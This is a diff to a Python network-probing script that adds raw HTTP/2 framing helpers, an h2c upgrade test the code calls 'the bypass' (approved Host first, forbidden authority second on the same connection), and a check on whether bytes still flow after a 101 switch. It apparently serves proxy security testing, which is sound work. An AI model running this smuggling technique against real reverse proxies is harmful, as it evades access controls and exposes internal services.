@@ -84,6 +84,97 @@ def websocket(host):
     except Exception as e:
         out("ERROR " + type(e).__name__ + ": " + str(e)[:200])
 
+def read_head_and_rest(sock):
+    data = b""
+    try:
+        while b"\r\n\r\n" not in data:
+            chunk = sock.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+    except Exception:
+        pass
+    head, _, rest = data.partition(b"\r\n\r\n")
+    return head, rest
+
+def read_until_quiet(sock, seconds=3):
+    data = b""
+    sock.settimeout(seconds)
+    try:
+        while len(data) < 1 << 20:
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+    except Exception:
+        pass
+    return data
+
+def h2_frame(kind, flags, stream, payload):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+
+def hpack_literal(name, value):
+    # Literal header field without indexing, new name, no Huffman coding.
+    n, v = name.encode(), value.encode()
+    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
+
+def h2_data(data):
+    # The DATA payloads of a run of HTTP/2 frames, in order.
+    bodies, at = b"", 0
+    while at + 9 <= len(data):
+        length = int.from_bytes(data[at:at + 3], "big")
+        if data[at + 3] == 0:
+            bodies += data[at + 9:at + 9 + length]
+        at += 9 + length
+    return bodies.decode(errors="replace").replace("\n", " ")
+
+def h2c(ip, allowed, forbidden):
+    # The bypass: an h2c upgrade judged as one request for `allowed`, then
+    # HTTP/2 on the same connection asking for `forbidden`.
+    try:
+        s = socket.create_connection((ip, 80), timeout=10)
+        s.sendall((f"GET / HTTP/1.1\r\nHost: {allowed}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
+                   "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n").encode())
+        head, rest = read_head_and_rest(s)
+        status = first_line(head)
+        if status.startswith("HTTP/1.1 101"):
+            first = h2_data(rest + read_until_quiet(s, 1))
+        else:
+            first = rest.decode(errors="replace").replace("\n", " ")
+        request = (hpack_literal(":method", "GET") + hpack_literal(":scheme", "http")
+                   + hpack_literal(":path", "/") + hpack_literal(":authority", forbidden))
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+                  + h2_frame(1, 0x5, 3, request))
+        after = read_until_quiet(s)
+        if status.startswith("HTTP/1.1 101"):
+            second = h2_data(after)
+        else:
+            second = first_line(after)
+        out(f"{status} | first={first} | second={second}")
+    except Exception as e:
+        out("ERROR " + type(e).__name__ + ": " + str(e)[:200])
+
+def switch(ip, host, websocket):
+    # Asks for /switch, where the upstream answers 101 for h2c whatever was
+    # asked, then checks whether bytes still flow both ways.
+    try:
+        s = socket.create_connection((ip, 80), timeout=10)
+        ask = f"GET /switch HTTP/1.1\r\nHost: {host}\r\n"
+        if websocket:
+            key = base64.b64encode(os.urandom(16)).decode()
+            ask += (f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: {key}\r\n"
+                    "Sec-WebSocket-Version: 13\r\n")
+        s.sendall((ask + "\r\n").encode())
+        head, rest = read_head_and_rest(s)
+        try:
+            s.sendall(b"bytes-after-the-switch")
+        except Exception:
+            pass
+        echoed = b"bytes-after-the-switch" in rest + read_until_quiet(s)
+        out(first_line(head) + " | echoed=" + str(echoed))
+    except Exception as e:
+        out("ERROR " + type(e).__name__ + ": " + str(e)[:200])
+
 def udp(ip, port):
     try:
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -207,6 +298,10 @@ elif cmd == "raw":
     raw(args[0], args[1], args[2].encode().decode("unicode_escape").encode("latin-1"))
 elif cmd == "ws":
     websocket(args[0])
+elif cmd == "h2c":
+    h2c(args[0], args[1], args[2])
+elif cmd == "switch":
+    switch(args[0], args[1], args[2] == "ws")
 elif cmd == "udp":
     udp(args[0], args[1])
 elif cmd == "spoof":
